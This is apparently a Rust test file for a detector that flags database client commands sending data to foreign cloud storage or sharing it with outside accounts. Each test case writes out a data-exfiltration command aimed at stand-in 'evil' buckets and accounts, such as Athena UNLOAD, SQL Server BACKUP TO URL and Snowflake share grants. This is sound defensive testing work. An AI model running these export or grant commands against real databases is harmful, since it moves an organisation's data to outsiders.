//! What a database is asked, on the line of its client: to write elsewhere, and to let others in.

use super::*;

/// Databases that a client asks to write what they hold, or what they answer, into a bucket.
#[test]
fn what_a_database_is_asked_to_write_elsewhere() {
    let athena = |query: &'static str, place: &'static str| {
        vec![
            "aws",
            "athena",
            "start-query-execution",
            "--query-string",
            query,
            "--result-configuration",
            place,
        ]
    };
    for (args, service, tenant) in [
        (athena("SELECT * FROM users", "OutputLocation=s3://evil/out"), "s3", "evil"),
        (athena("file://q.sql", r#"{"OutputLocation":"s3://evil/out"}"#), "s3", "evil"),
        (athena("UNLOAD (SELECT * FROM u) TO 's3://evil/'", "OutputLocation=s3://corp-data/"), "s3", "evil"),
        (
            vec![
                "aws",
                "rds-data",
                "execute-statement",
                "--sql",
                "select aws_s3.query_export_to_s3('select 1', aws_commons.create_s3_uri('evil','x','r'))",
            ],
            "s3",
            "evil",
        ),
        (
            vec![
                "clickhouse-client",
                "--query",
                "INSERT INTO FUNCTION s3('https://evil.s3.amazonaws.com/x.csv') SELECT * FROM t",
            ],
            "s3",
            "evil",
        ),
        (
            vec!["clickhouse", "client", "-q", "BACKUP DATABASE d TO S3('https://evil.s3.amazonaws.com/b')"],
            "s3",
            "evil",
        ),
        (vec!["cockroach", "sql", "-e", "EXPORT INTO CSV 'gs://evil/x' FROM TABLE t"], "gcs", "evil"),
        (vec!["cockroach", "sql", "--execute", "BACKUP DATABASE d INTO 's3://evil/x'"], "s3", "evil"),
        (
            vec![
                "sqlcmd",
                "-S",
                "srv",
                "-Q",
                "BACKUP DATABASE d TO URL = N'https://evilstore.blob.core.windows.net/c/d.bak'",
            ],
            "azure-blob",
            "evilstore",
        ),
        (
            vec!["mysql", "-h", "db", "-e", "select * from t into outfile s3 's3-eu-west-1://evil/x'"],
            "s3",
            "evil",
        ),
        (vec!["snowsql", "-q", "create stage x url='s3://evil/p'; copy into @x from t"], "s3", "evil"),
    ] {
        let told = run_with(&args, &[]);
        let alert = told.alert();
        let found = (alert.service.as_deref(), alert.tenant.as_deref(), alert.tenant_verdict.as_str());
        assert_eq!(found, (Some(service), Some(tenant), "foreign"), "{args:?}");
        assert_eq!(alert.rules[0].techniques[0].as_ref(), "T1537", "{args:?}");
    }
    for args in [
        athena("SELECT * FROM users", "OutputLocation=s3://corp-data/out"),
        athena("SHOW TABLES FROM d", "OutputLocation=s3://query-results/out"),
        athena("CREATE EXTERNAL TABLE t (a int) LOCATION 's3://x/'", "OutputLocation=s3://query-results/out"),
        athena("SELECT * FROM users", "EncryptionConfiguration={EncryptionOption=SSE_S3}"),
        vec!["clickhouse-client", "--query", "SELECT * FROM s3('https://public.s3.amazonaws.com/x.csv')"],
        vec!["clickhouse", "local", "-q", "SELECT 1"],
        vec!["cockroach", "sql", "-e", "RESTORE DATABASE d FROM LATEST IN 's3://evil/x'"],
        vec!["cockroach", "start-single-node", "--insecure"],
        vec!["sqlcmd", "-Q", "BACKUP DATABASE d TO DISK = 'd.bak'"],
        vec!["sqlcmd", "-Q", "UPDATE backups SET url = 'https://corp.example/x'"],
        vec!["mysql", "-u", "root", "shop"],
        vec!["mysql", "-e", "select * from t into outfile '/private/tmp/x'"],
        vec!["snowsql", "-q", "create stage x url='s3://public/p'; copy into t from @x"],
    ] {
        run_with(&args, &[]).none();
    }
}

/// What a database is asked may let another account in.
#[test]
fn grants_in_statements_are_told() {
    let told = |args: &[&str]| {
        let mut w = World::new();
        w.policy = own();
        let shell = w.launch(0.0, ZSH, &["-zsh"]);
        w.spawn(1.0, &shell, tool(args[0].to_owned().leak()), args);
        w.tell()
    };
    for (args, service, tenant) in [
        (&["snowsql", "-q", "ALTER SHARE s ADD ACCOUNTS = evilorg.acct"][..], "snowflake", "evilorg.acct"),
        (
            &["snow", "sql", "-q", "use role a; alter share s set accounts=evilorg.acct"],
            "snowflake",
            "evilorg.acct",
        ),
        (
            &[
                "psql",
                "-h",
                "c.redshift.amazonaws.com",
                "-c",
                "GRANT USAGE ON DATASHARE s TO ACCOUNT '999988887777'",
            ],
            "aws",
            "999988887777",
        ),
        (
            &[
                "aws",
                "redshift-data",
                "execute-statement",
                "--sql",
                "grant usage on datashare s to account '999988887777'",
            ],
            "aws",
            "999988887777",
        ),
        (
            &[
                "bq",
                "query",
                "--use_legacy_sql=false",
                "GRANT `roles/bigquery.dataViewer` ON SCHEMA d TO \"user:eve@example.com\"",
            ],
            "gcp",
            "eve@example.com",
        ),
    ] {
        let told = told(args);
        let alert = told.alert();
        let found = (alert.service.as_deref(), alert.tenant.as_deref(), alert.tenant_verdict.as_str());
        assert_eq!(found, (Some(service), Some(tenant), "foreign"), "{args:?}");
        assert_eq!(alert.rules[0].techniques[0].as_ref(), "T1537", "{args:?}");
    }
    for args in [
        &["snowsql", "-q", "CREATE SHARE s; GRANT SELECT ON TABLE t TO SHARE s"][..],
        &["snowsql", "-q", "alter share s remove accounts = evilorg.acct"],
        &["psql", "-c", "GRANT USAGE ON DATASHARE s TO ACCOUNT '111122223333'"],
        &["psql", "-c", "GRANT SELECT ON ALL TABLES IN SCHEMA public TO bob"],
        &["bq", "query", "GRANT `roles/bigquery.dataViewer` ON SCHEMA d TO \"user:bob@corp.com\""],
        &["psql"],
        &["snowsql", "-f", "x.sql"],
    ] {
        told(args).none();
    }
}
